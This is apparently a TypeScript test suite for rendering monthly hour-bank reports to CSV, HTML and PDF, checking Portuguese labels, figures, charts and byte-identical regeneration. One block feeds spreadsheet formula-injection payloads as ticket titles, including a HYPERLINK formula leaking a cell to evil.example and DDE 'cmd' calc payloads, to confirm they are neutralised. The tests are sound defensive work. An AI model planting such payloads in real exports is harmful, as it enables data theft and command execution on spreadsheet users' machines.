import { expect } from 'chai';
import { PDFParse } from 'pdf-parse';
import { buildMonthlyReport } from '../domain/build-monthly-report.js';
import { accountEvents, ticketOne, ticketThree, ticketTwo, tickets } from '../domain/report.fixtures.js';
import { reportFormats } from '../domain/report-issue.js';
import { renderCsv } from './render-csv.js';
import { renderHtml } from './render-html.js';
import { CHART_TITLE } from './render-pdf.js';
import { hashReport, renderReport } from './render-report.js';

const january = () => buildMonthlyReport({ period: '2027-01', account: accountEvents, tickets });

const pdfText = async (bytes: Buffer): Promise<{ text: string; pages: number }> => {
  const parser = new PDFParse({ data: new Uint8Array(bytes) });
  try {
    const result = await parser.getText();
    return { text: result.text, pages: result.total };
  } finally {
    await parser.destroy();
  }
};

describe('the CSV rendering', () => {
  const csv = () => renderCsv(january()).toString('utf8');

  it('starts with a UTF-8 BOM and separates fields with semicolons and lines with CRLF', () => {
    expect(csv().startsWith('\uFEFFRelatório mensal de banco de horas\r\n')).to.equal(true);
    expect(csv()).to.include('Cliente;Acme Comércio Ltda\r\n');
  });

  it('carries the summary in minutes and h:mm under Portuguese headers', () => {
    expect(csv()).to.include('Resumo\r\nItem;Minutos;Horas (h:mm)\r\nSaldo inicial;440;7:20\r\nCréditos;330;5:30\r\n');
    expect(csv()).to.include('Horas expiradas;80;1:20\r\nSaldo final;0;0:00\r\n');
  });

  describe('with ticket titles a spreadsheet would run as formulas', () => {
    /** The first closed ticket's row (t1's), its cells split on the separator outside quotes. */
    const closedRow = (csv: string) => csv.split('\r\n').find((l) => l.includes(';Encerrado;'))!.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, ''));
    const titled = (title: string) => ticketOne.map((e) => (e.type === 'TicketOpened' ? { ...e, data: { ...(e.data as Record<string, unknown>), title } } : e));
    const csvWith = (title: string) =>
      renderCsv(buildMonthlyReport({ period: '2027-01', account: accountEvents, tickets: [titled(title), ticketTwo, ticketThree] })).toString('utf8');

    for (const title of ['=HYPERLINK("https://evil.example/?x="&A1,"Abrir")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1']) {
      it(`neutralises ${JSON.stringify(title.slice(0, 12))}… with a leading quote`, () => {
        const cell = closedRow(csvWith(title))[1]!;
        expect(cell.replace(/^"/, '').startsWith("'"), cell).to.equal(true);
        expect(cell.replace(/^"|"$/g, '').replaceAll('""', '"')).to.equal(`'${title}`);
      });
    }

    it('leaves a signed number alone, not text after the sign', () => {
      const t1 = (title: string) => closedRow(csvWith(title)).join(';');
      expect(t1('-20')).to.match(/^[^;]+;-20;/);
      expect(t1('+5,5')).to.match(/^[^;]+;\+5,5;/);
      expect(t1('-20 minutos')).to.match(/^[^;]+;'-20 minutos;/);
    });
  });

  it('lists the tickets, their activities and the overage invoice', () => {
    expect(csv()).to.include('#1042;Integração com o ERP;Encerrado;20/01/2027 09:00;540;9:00;515;25;');
    expect(csv()).to.include('#1041;Desenvolvimento;80;1:20\r\n');
    expect(csv()).to.include('Valor da fatura;R$ 62,63\r\n');
  });
});

describe('the HTML rendering', () => {
  const html = () => renderHtml(january()).toString('utf8');

  it('is a printable Portuguese page', () => {
    expect(html()).to.match(/^<!DOCTYPE html>\n<html lang="pt-BR">/);
    expect(html()).to.include('@page { size: A4');
    expect(html()).to.include('<title>Relatório mensal de banco de horas: Acme Comércio Ltda, janeiro de 2027</title>');
  });

  it('shows the figures in h:mm and reais', () => {
    expect(html()).to.include('<td>Saldo inicial</td><td class="n">440</td><td class="n">7:20</td>');
    expect(html()).to.include('<td>Valor da fatura</td><td>R$ 62,63</td>');
    expect(html()).to.include('<td>Primeira resposta</td><td class="n">1</td><td class="n">1</td>');
  });
});

describe('the PDF rendering', function () {
  this.timeout(20_000);

  it('is a real PDF whose text holds the Portuguese labels, accents included, and the figures', async () => {
    const bytes = await renderReport(january(), 'pdf');
    expect(bytes.subarray(0, 5).toString('latin1')).to.equal('%PDF-');
    const { text } = await pdfText(bytes);
    for (const expected of ['Relatório mensal de banco de horas', 'Acme Comércio Ltda', 'janeiro de 2027', 'Saldo inicial', '7:20',
      'Horas expiradas', 'Integração com o ERP', 'Reunião', 'Investigação', 'R$ 62,63', 'Primeira resposta', 'Prazo de entrega']) {
      expect(text).to.include(expected);
    }
  });

  it('ends with a chart page of the hours used in the last 12 months', async () => {
    const { text, pages } = await pdfText(await renderReport(january(), 'pdf'));
    expect(pages).to.be.greaterThan(1);
    const chartPage = text.slice(text.lastIndexOf(CHART_TITLE));
    expect(chartPage).to.include('fev/26').and.include('jan/27').and.include('11:10').and.include('3:00');
  });
});

describe('regenerating a report', function () {
  this.timeout(20_000);

  it('gives the same bytes in every format', async () => {
    for (const format of reportFormats) {
      const [first, second] = [await renderReport(january(), format), await renderReport(january(), format)];
      expect(first.equals(second), format).to.equal(true);
    }
  });

  it('gives the same hashes, and other hashes for other facts', async () => {
    const hashes = await hashReport(january());
    expect(await hashReport(january())).to.deep.equal(hashes);
    const other = await hashReport(buildMonthlyReport({ period: '2027-01', account: accountEvents.slice(0, -1), tickets }));
    expect(other.contentHash).to.not.equal(hashes.contentHash);
    expect(other.formatHashes.pdf).to.not.equal(hashes.formatHashes.pdf);
  });
});
